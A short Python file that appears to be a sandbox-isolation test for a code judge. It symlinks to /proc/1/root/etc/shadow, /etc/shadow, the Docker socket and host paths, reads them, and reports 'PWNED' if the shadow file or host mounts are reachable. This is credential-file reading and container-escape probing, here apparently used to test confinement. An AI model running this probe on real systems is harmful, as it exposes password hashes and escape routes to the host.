# vector: 1 read: host files through symlinks, /proc/<pid>/root and mounts
# expect: WA
import os


def solve(values):
    found = []
    for target in ("/proc/1/root/etc/shadow", "/etc/shadow", "/proc/1/cwd", "/host", "/var/run/docker.sock"):
        link = os.path.join(os.getcwd(), "link")
        try:
            if os.path.lexists(link):
                os.unlink(link)
            os.symlink(target, link)
            with open(link, "rb") as handle:
                data = handle.read(200)
            if target.endswith("shadow") and b"root:" in data:
                found.append(target)
        except OSError:
            pass
    with open("/proc/self/mountinfo") as mounts:
        for line in mounts:
            if "docker.sock" in line or " /host " in line:
                found.append(line.strip())
    return "PWNED " + " | ".join(found) if found else -1
